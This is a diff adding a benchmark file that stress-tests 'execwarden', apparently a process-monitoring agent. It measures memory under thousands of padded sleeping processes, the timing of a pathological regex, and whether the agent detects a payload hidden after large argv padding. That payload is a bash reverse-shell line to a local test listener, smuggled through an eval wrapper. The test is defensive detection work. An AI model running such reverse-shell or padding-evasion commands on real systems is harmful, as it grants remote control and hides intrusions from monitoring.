@@ -1,0 +1,129 @@
+/**
+ * What a hostile local user can do to the agent, measured on a separate `execwarden run`:
+ * - memory: its RSS before and after 3,000 sleeping processes with about 120 KiB of argv each
+ *   (the process table keeps a judged image compact; the documented budget is 256 MiB);
+ * - a pathological regex input: the time to evaluate `regex ".*(a+)+="` on a 10,000-character
+ *   command line (the old backtracking engine took 0.78 s on 24 characters);
+ * - a payload placed after about 1.8 MiB of argv padding: whether the agent still alerts on it.
+ *
+ * Runnable alone: npx tsc -p tsconfig.build.json && node dist/test/bench/hostile.js
+ */
+import { spawn, type ChildProcess } from 'node:child_process';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer, type AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { fileURLToPath, pathToFileURL } from 'node:url';
+import { compileQuery } from '../../src/eql/index.js';
+
+const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../..');
+const RSS_BUDGET_MIB = 256;
+
+function rssMiB(pid: number): number {
+  const match = /^VmRSS:\s+(\d+) kB/m.exec(readFileSync(`/proc/${pid}/status`, 'utf8'));
+  return match ? Number(match[1]) / 1024 : NaN;
+}
+
+function shell(script: string): Promise<void> {
+  return new Promise((resolve, reject) => {
+    const child = spawn('/bin/bash', ['-c', script], { stdio: 'ignore' });
+    child.once('error', reject);
+    child.once('exit', () => resolve());
+  });
+}
+
+const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
+
+async function startAgent(dir: string): Promise<{ agent: ChildProcess; alerts: () => string }> {
+  const alertsFile = path.join(dir, 'alerts.ndjson');
+  writeFileSync(path.join(dir, 'config.toml'), `[outputs.file]\npath = "${alertsFile}"\n`);
+  const agent = spawn(process.execPath, [path.join(ROOT, 'bin/execwarden.js'), 'run', '--config', path.join(dir, 'config.toml')], {
+    stdio: ['ignore', 'ignore', 'pipe'],
+  });
+  let log = '';
+  agent.stderr!.on('data', (chunk: Buffer) => (log += chunk.toString()));
+  for (let i = 0; i < 200 && !log.includes('execwarden started'); i++) await sleep(100);
+  if (!log.includes('execwarden started')) throw new Error(`the agent did not start: ${log}`);
+  const alerts = (): string => {
+    try {
+      return readFileSync(alertsFile, 'utf8');
+    } catch {
+      return '';
+    }
+  };
+  return { agent, alerts };
+}
+
+export async function runHostileBench(): Promise<Record<string, unknown>> {
+  const dir = mkdtempSync(path.join(tmpdir(), 'execwarden-hostile-'));
+  const { agent, alerts } = await startAgent(dir);
+  const result: Record<string, unknown> = {};
+  try {
+    await sleep(1000);
+    result.rssIdleMiB = rssMiB(agent.pid!);
+    // 3,000 shells sleeping with ~120 KiB of argv each; killed by name below.
+    const sleepers = 3000;
+    await shell(
+      `pad=$(printf '%0120000d' 0); for i in $(seq ${sleepers}); do setsid sh -c 'sleep 40; :' hostile-sleeper "$pad" $i </dev/null >/dev/null 2>&1 & done`,
+    );
+    await sleep(5000);
+    result.sleepers = sleepers;
+    result.rssWithSleepersMiB = rssMiB(agent.pid!);
+    result.rssBudgetMiB = RSS_BUDGET_MIB;
+    await shell("pkill -f 'hostile-sleeper' || true");
+
+    // A payload after ~1.8 MiB of padding (one argument may not pass 128 KiB).
+    const listener = createServer((socket) => socket.destroy());
+    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
+    const port = (listener.address() as AddressInfo).port;
+    const before = alerts().length;
+    await shell(
+      `pad=$(printf '%0120000d' 0); bash -c 'eval "\${@: -1}"' _ ${Array.from({ length: 15 }, () => '"$pad"').join(' ')} 'bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1 #hostile-padding'; true`,
+    );
+    await sleep(1500);
+    listener.close();
+    const fresh = alerts().slice(before);
+    result.paddedPayloadAlerted = fresh.includes(`/dev/tcp/127.0.0.1/${port}`);
+  } finally {
+    agent.kill('SIGTERM');
+    await new Promise((resolve) => agent.once('exit', resolve));
+    rmSync(dir, { recursive: true, force: true });
+  }
+
+  // The regex the old engine took 0.78 s for on 24 characters, on 10,000.
+  const query = compileQuery('process where process.command_line regex ".*(a+)+="');
+  if (query.kind !== 'event') throw new Error('expected an event query');
+  // A value that almost matches (no '=') and one that does: both run through the whole value.
+  const values = ['a'.repeat(10_000), `${'a'.repeat(10_000)}=`, `${'ab'.repeat(5_000)}=`];
+  const runs: number[] = [];
+  for (let i = 0; i < 5; i++) {
+    const started = performance.now();
+    for (const value of values) query.matches({ event: { category: ['process'] }, process: { command_line: value } });
+    runs.push(performance.now() - started);
+  }
+  runs.sort((a, b) => a - b);
+  result.pathologicalRegexMs = runs[2]! / values.length;
+
+  printHostile(result);
+  return result;
+}
+
+function printHostile(r: Record<string, unknown>): void {
+  const f = (value: unknown, digits = 1) => (typeof value === 'number' ? value.toFixed(digits) : String(value));
+  const rows: Array<[string, string, string]> = [
+    ['agent RSS idle (MiB)', f(r.rssIdleMiB), ''],
+    [`agent RSS with ${r.sleepers} sleepers of 120 KiB argv (MiB)`, f(r.rssWithSleepersMiB), `budget ${r.rssBudgetMiB} ${Number(r.rssWithSleepersMiB) <= Number(r.rssBudgetMiB) ? 'met' : 'MISSED'}`],
+    ['payload after 1.8 MiB of argv padding alerted', String(r.paddedPayloadAlerted), r.paddedPayloadAlerted ? 'met' : 'MISSED'],
+    ['regex .*(a+)+= on 10,000 chars (ms per value, median)', f(r.pathologicalRegexMs, 2), 'linear (was 0.78 s on 24 chars)'],
+  ];
+  const widths = [0, 1, 2].map((i) => Math.max(...rows.map((row) => row[i]!.length)));
+  console.log('\nhostile host:');
+  for (const row of rows) console.log(row.map((cell, i) => cell.padEnd(widths[i]!)).join('  '));
+}
+
+if (process.argv[1] && import.meta.url === pathToFileURL(path.resolve(process.argv[1])).href) {
+  runHostileBench().catch((error: unknown) => {
+    console.error(error);
+    process.exitCode = 1;
+  });
+}
